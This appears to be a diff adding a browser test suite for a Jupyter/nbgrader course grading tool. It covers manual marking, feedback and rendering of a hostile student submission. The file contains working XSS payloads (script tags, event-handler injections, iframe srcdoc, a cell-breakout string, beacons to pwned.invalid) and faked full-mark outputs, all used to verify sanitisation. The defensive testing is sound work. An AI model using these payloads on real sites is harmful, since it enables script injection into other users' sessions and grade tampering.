@@ -1,0 +1,264 @@
+"""An instructor with a class, in a browser: formgrader, marks by hand, feedback."""
+
+import subprocess
+import sys
+
+import nbformat
+import pytest
+from course import REPOSITORY, exercises_of, grade_id, released_of, write
+from lab import Desk, expect, lay_out_course, serve
+from nbconvert import HTMLExporter
+from nbformat.v4 import new_output
+from required import require
+from sample_class import write_class
+
+from backprop.grading.class_report import write_report
+from backprop.grading.sealing import why_no_seal
+from backprop.release import lessons, notebook_of
+
+LESSON, NAME = "03_backward_pass", "backward_pass"
+WRITTEN = "explain_the_bug"
+HOSTILE = "mallory"
+SIZE, SEED = 5, 5
+
+# Each bait asks for an address of its own as soon as a browser believes it: those above by
+# running something, those below as soon as they are shown.
+RUN = "document.title='pwned';new Image().src='http://pwned.invalid/{name}'"
+RUNNING = {
+    "script": "<script>{run}</script>",
+    "fetch": "<script>fetch('http://pwned.invalid/{name}')</script>",
+    "picture": '<img src="data:," onerror="{run}">',
+    "drawing": '<svg onload="{run}"></svg>',
+    "details": '<details open ontoggle="{run}"><summary>x</summary></details>',
+    "frame": '<iframe srcdoc="<script>{run}</script>"></iframe>',
+    "sound": '<audio src="data:," onerror="{run}"></audio>',
+    "field": '<input autofocus onfocus="{run}">',
+    "end-of-cell": "</pre></div></section><script>{run}</script>",
+}
+SHOWN = {
+    "picture-elsewhere": '<img src="http://pwned.invalid/{name}">',
+    "style": '<p style="background: url(http://pwned.invalid/{name})">x</p>',
+    "sheet": '<link rel="stylesheet" href="http://pwned.invalid/{name}">',
+    "frame-elsewhere": '<iframe src="http://pwned.invalid/{name}"></iframe>',
+    "object": '<object data="http://pwned.invalid/{name}"></object>',
+}
+
+
+def baits(place, besides=()):
+    """The baits by their names, for one place in a notebook."""
+    return {
+        f"{place}-{kind}": bait.format(
+            name=f"{place}-{kind}", run=RUN.format(name=f"{place}-{kind}")
+        )
+        for kind, bait in (RUNNING | SHOWN).items()
+        if kind not in besides
+    }
+
+
+IN_OUTPUTS = baits("output")
+# One field of a page has the focus; within a paragraph, a script's quotes are escaped.
+IN_ANSWER = baits("answer", besides=["field", "end-of-cell"])
+IN_JAVASCRIPT = RUN.format(name="output-javascript")
+ALL_BAITS = {*IN_OUTPUTS, *IN_ANSWER, "output-javascript"}
+
+
+def hostile_notebook():
+    """The lesson untouched, but for baits in outputs and in the written answer.
+
+    Its outputs claim full marks.
+    """
+    notebook = released_of(LESSON)
+    data = [{"text/html": bait} for bait in IN_OUTPUTS.values()]
+    data.append({"application/javascript": IN_JAVASCRIPT})
+    shown = [f"display({each!r}, raw=True)" for each in data]
+    for cell in notebook.cells:
+        id = grade_id(cell)
+        if id == "paste_forward_propagation":
+            cell.outputs = [new_output("display_data", each) for each in data]
+            # What is run in the closed room shows the same.
+            cell.source = "\n".join([cell.source, *shown])
+        elif id == WRITTEN:
+            cell.source = "\n\n".join(IN_ANSWER.values())
+        elif id.startswith("check_"):
+            claim = {"text/plain": str(float(cell.metadata.nbgrader.points))}
+            cell.outputs = [new_output("execute_result", claim, execution_count=1)]
+    return notebook
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """The folder of a course whose class is graded, and its honest members by name."""
+    require(not why_no_seal(), why_no_seal())
+    folder = tmp_path_factory.mktemp("course")
+    members = write_class(folder, SIZE, SEED)
+    assert {one.expected[WRITTEN] for one in members} == {None, 0.0}, "take another seed"
+    write(hostile_notebook(), folder / "submitted" / HOSTILE / LESSON / f"{NAME}.ipynb")
+    lay_out_course(folder)
+    grading = [sys.executable, "-m", "backprop", "grade", LESSON]
+    done = subprocess.run(grading, cwd=folder, capture_output=True, text=True)
+    assert done.returncode == 0, done.stdout + done.stderr
+    return folder, {member.student: member for member in members}
+
+
+@pytest.fixture(scope="module")
+def course(graded):
+    return graded[0]
+
+
+@pytest.fixture(scope="module")
+def members(graded):
+    return graded[1]
+
+
+@pytest.fixture(scope="module")
+def address(course):
+    with serve(course) as address:
+        yield address
+
+
+@pytest.fixture
+def desk(window, address, pictures):
+    desk = Desk(window, address, pictures)
+    yield desk
+    desk.leave()
+
+
+def automatic(member):
+    """The points of a member that no person gives."""
+    return sum(points or 0 for points in member.expected.values())
+
+
+def row_of(page, student):
+    """The line of a student in formgrader's list of submissions."""
+    return page.locator("#main-table tr", has=page.get_by_text(student, exact=True))
+
+
+def generate_feedback(page, student):
+    row_of(page, student).locator(".generate-feedback a").click()
+    expect(page.locator(".modal-dialog")).to_contain_text("Successfully generated feedback")
+
+
+def test_formgrader_lists_the_lessons_and_generates_one(desk, course):
+    released = notebook_of(course / "notebooks" / LESSON)
+    before = nbformat.read(released, as_version=4)
+    desk.go("lab?reset")
+    desk.page.locator(".lm-MenuBar-itemLabel", has_text="Nbgrader").click()
+    desk.page.locator(".lm-Menu-itemLabel").get_by_text("Formgrader", exact=True).click()
+    page = desk.page.frame_locator("iframe[src*=formgrader]")
+    for lesson in lessons(REPOSITORY):
+        expect(page.get_by_role("link", name=lesson, exact=True)).to_be_visible()
+    desk.picture("lessons")
+    row = page.locator("#main-table tr", has_text=LESSON)
+    expect(row.locator(".num-submissions")).to_have_text(str(SIZE + 1))
+    row.locator(".assign a").click()
+    told = page.locator(".modal-dialog")
+    expect(told).to_contain_text("Successfully created the student version")
+    desk.picture("generated")
+    assert nbformat.read(released, as_version=4) == before
+
+
+def test_the_class_is_listed_with_the_points_that_the_judge_gave(desk, course, members):
+    desk.go(f"formgrader/manage_submissions/{LESSON}")
+    most = sum(entry.points for entry in exercises_of(LESSON))
+    for student, member in members.items():
+        row = row_of(desk.page, student)
+        expect(row.locator(".score")).to_have_text(f"{automatic(member):g} / {most:g}")
+        written = member.expected[WRITTEN] is None
+        status = "needs manual grading" if written else "graded"
+        expect(row.locator(".status")).to_have_text(status)
+    # Its outputs claim full marks.
+    row = row_of(desk.page, HOSTILE)
+    expect(row.locator(".score")).to_have_text(f"0 / {most:g}")
+    desk.picture("class")
+
+
+def test_a_written_answer_is_marked_with_its_scheme_at_hand_and_the_feedback_tells(desk, members):
+    student, member = next(
+        (name, member) for name, member in members.items() if member.expected[WRITTEN] is None
+    )
+    desk.go(f"formgrader/manage_submissions/{LESSON}")
+    page = desk.page
+    row_of(page, student).get_by_role("link").first.click()
+    page.get_by_role("link", name=NAME).click()
+    # What is typed before is not heard.
+    page.wait_for_function("formgrader.grades?.loaded && formgrader.comments?.loaded")
+    answer = page.locator(".nbgrader_cell", has=page.locator(f"#{WRITTEN}"))
+    scheme = page.get_by_text("Last version, 1 point")
+    expect(scheme).to_be_visible()
+    field = answer.locator("input.score")
+    field.scroll_into_view_if_needed()
+    with page.expect_response("**/formgrader/api/grade/*"):
+        field.fill("1.5")
+        field.press("Tab")
+    with page.expect_response("**/formgrader/api/comment/*"):
+        answer.locator("textarea").fill("A reason for the **last** version, please.")
+        answer.locator("textarea").press("Tab")
+    scheme.scroll_into_view_if_needed()
+    desk.picture("marked")
+
+    desk.go(f"formgrader/manage_submissions/{LESSON}")
+    row = row_of(page, student)
+    expect(row.locator(".status")).to_have_text("graded")
+    expect(row.locator(".score")).to_contain_text(f"{automatic(member) + 1.5:g} /")
+    generate_feedback(page, student)
+    desk.picture("feedback-generated")
+
+    desk.go(f"lab/tree/feedback/{student}/{LESSON}/{NAME}.html?reset")
+    told = page.frame_locator(".jp-HTMLViewer iframe")
+    expect(told.get_by_role("heading", level=4)).to_contain_text(f"{automatic(member) + 1.5:g}")
+    comment = told.get_by_text("A reason for the")
+    comment.scroll_into_view_if_needed()
+    desk.picture("feedback")
+
+
+def baits_taken(desk):
+    """The names of the baits that a page has believed so far."""
+    return {url.rpartition("/")[2] for url in desk.requests if "pwned.invalid" in url}
+
+
+def test_the_baits_work_where_nothing_is_cleaned(desk, course, tmp_path):
+    """Else a page that takes none of them would prove nothing."""
+    handed_in = course / "submitted" / HOSTILE / LESSON / f"{NAME}.ipynb"
+    page, _ = HTMLExporter().from_filename(handed_in)
+    (tmp_path / "page.html").write_text(page, encoding="utf-8")
+    desk.page.goto((tmp_path / "page.html").as_uri())
+    desk.until(lambda: baits_taken(desk) == ALL_BAITS, lambda: ALL_BAITS - baits_taken(desk))
+    assert desk.page.title() == "pwned"
+
+
+def test_nothing_that_a_student_hands_in_runs_in_the_pages_of_formgrader(desk):
+    desk.go(f"formgrader/manage_students/{HOSTILE}/{LESSON}")
+    desk.page.get_by_role("link", name=NAME).click()
+    answer = desk.page.locator(".nbgrader_cell", has=desk.page.locator(f"#{WRITTEN}"))
+    answer.scroll_into_view_if_needed()
+    desk.page.wait_for_load_state("networkidle")
+    desk.picture("hostile-submission")
+    assert baits_taken(desk) == set()
+    assert desk.dialogs == []
+    assert desk.page.title() == NAME
+
+
+def test_nothing_that_a_student_hands_in_runs_in_feedback_or_report(desk, course):
+    desk.go(f"formgrader/manage_submissions/{LESSON}")
+    generate_feedback(desk.page, HOSTILE)
+    write_report(course, LESSON)
+    feedback = course / "feedback" / HOSTILE / LESSON / f"{NAME}.html"
+    for page in (feedback, course / "report" / f"{LESSON}.html"):
+        desk.page.goto(page.as_uri())
+        desk.page.wait_for_load_state("networkidle")
+        desk.picture(page.stem)
+        assert baits_taken(desk) == set()
+        assert desk.page.title() != "pwned"
+
+
+def test_no_script_runs_when_a_hostile_submission_is_opened_in_the_lab(desk):
+    lesson = desk.open(f"submitted/{HOSTILE}/{LESSON}/{NAME}.ipynb")
+    lesson.cell("paste_forward_propagation")
+    desk.page.wait_for_load_state("networkidle")
+    desk.picture("hostile-outputs")
+    lesson.cell(WRITTEN)
+    desk.page.wait_for_load_state("networkidle")
+    desk.picture("hostile-answer")
+    # JupyterLab shows pictures from elsewhere; it runs nothing.
+    ran = {f"{place}-{kind}" for place in ("output", "answer") for kind in RUNNING}
+    assert baits_taken(desk) & {*ran, "output-javascript"} == set()
